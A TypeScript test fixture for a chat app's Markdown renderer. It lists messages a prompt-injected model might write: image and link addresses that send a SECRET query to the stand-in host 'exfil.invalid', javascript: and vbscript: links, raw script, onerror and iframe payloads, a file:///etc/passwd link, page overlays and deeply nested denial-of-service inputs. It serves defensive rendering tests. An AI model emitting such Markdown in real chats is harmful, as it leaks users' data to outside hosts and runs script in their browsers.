/**
 * Messages a prompt injection could make the model write, to draw in the chat: every way Markdown can ask
 * the page to fetch something, run script, open a dialog or draw over the app. Shared by the renderer's
 * unit test and the e2e spec that draws them in Chromium. Every remote address names `HOSTILE_HOST`, so a
 * test can tell a request for it from the page's own.
 */

/** The host every hostile address points at. */
export const HOSTILE_HOST = "exfil.invalid";

const url = (path: string) => `https://${HOSTILE_HOST}/${path}?q=SECRET`;
/** A 1x1 PNG, small enough to draw inline. */
const TINY_PNG =
  "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=";

/** One hostile message: what it tries, and its text. */
export interface HostileMessage {
  /** What the message tries, for a failing test's report. */
  name: string;
  /** The Markdown the model writes. */
  text: string;
}

/** The corpus. */
export const hostileMessages: HostileMessage[] = [
  { name: "inline image", text: `Look: ![chart](${url("inline.png")})` },
  { name: "image with a title", text: `![a](${url("title.png")} "title")` },
  { name: "reference image", text: `![logo][l]\n\n[l]: ${url("reference.png")}` },
  { name: "collapsed reference image", text: `![logo][]\n\n[logo]: ${url("collapsed.png")}` },
  { name: "image in a link", text: `[![x](${url("nested.png")})](${url("nested-link")})` },
  { name: "image in a table", text: `| a |\n| - |\n| ![t](${url("table.png")}) |` },
  { name: "image in a footnote", text: `Note[^1]\n\n[^1]: ![f](${url("footnote.png")})` },
  { name: "image in a quote in a list", text: `- > ![q](${url("quote.png")})` },
  { name: "image in a heading", text: `# ![h](${url("heading.png")})` },
  { name: "autolinked image address", text: `<${url("autolink.png")}> and ${url("bare.png")}` },
  { name: "protocol-relative image", text: `![p](//${HOSTILE_HOST}/relative.png)` },
  { name: "svg data image", text: "![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)" },
  { name: "oversized data image", text: `![big](data:image/png;base64,${"A".repeat(200_000)})` },
  { name: "small data image (drawn)", text: `![ok](${TINY_PNG})` },
  { name: "javascript link", text: "[click](javascript:alert(1))" },
  { name: "javascript link, upper case", text: "[click](JaVaScRiPt:alert(1))" },
  { name: "javascript link with entities", text: "[click](jav&#x61;script&colon;alert(1))" },
  { name: "javascript link with a tab", text: "[click](java\tscript:alert(1))" },
  { name: "javascript link by reference", text: "[click][j]\n\n[j]: javascript:alert(1)" },
  { name: "javascript autolink", text: "<javascript:alert(1)>" },
  { name: "vbscript link", text: "[click](vbscript:msgbox(1))" },
  { name: "data html link", text: "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)" },
  { name: "file link", text: "[passwd](file:///etc/passwd)" },
  { name: "raw script", text: "<script>alert(1)</script>" },
  { name: "raw img onerror", text: `<img src=x onerror="alert(1)">` },
  { name: "raw remote img", text: `<img src="${url("raw.png")}">` },
  { name: "raw svg", text: `<svg><image href="${url("svg.png")}"/><script>alert(1)</script></svg>` },
  { name: "raw iframe", text: `<iframe src="${url("frame")}"></iframe>` },
  { name: "raw form", text: `<form action="${url("form")}"><button>Go</button></form>` },
  {
    name: "raw style drawing over the page",
    text: "<style>body{display:none}</style><div style=position:fixed;inset:0>x</div>",
  },
  { name: "raw link tag", text: `<link rel="stylesheet" href="${url("style.css")}">` },
  { name: "raw meta refresh", text: `<meta http-equiv="refresh" content="0;url=${url("refresh")}">` },
  { name: "raw object", text: `<object data="${url("object")}"></object>` },
  { name: "html inside a table", text: "| a |\n| - |\n| <img src=x onerror=alert(1)> |" },
  { name: "code with html", text: "```html\n<script>alert(1)</script>\n```" },
  { name: "deeply nested quotes", text: `${">".repeat(5000)} deep` },
  {
    name: "deeply nested lists",
    text: Array.from({ length: 400 }, (_, i) => `${"  ".repeat(i)}- item`).join("\n"),
  },
  { name: "deeply nested brackets", text: `${"[".repeat(20_000)}x${"](a)".repeat(100)}` },
  { name: "long emphasis run", text: "*a ".repeat(20_000) },
  { name: "long line", text: "x".repeat(300_000) },
];
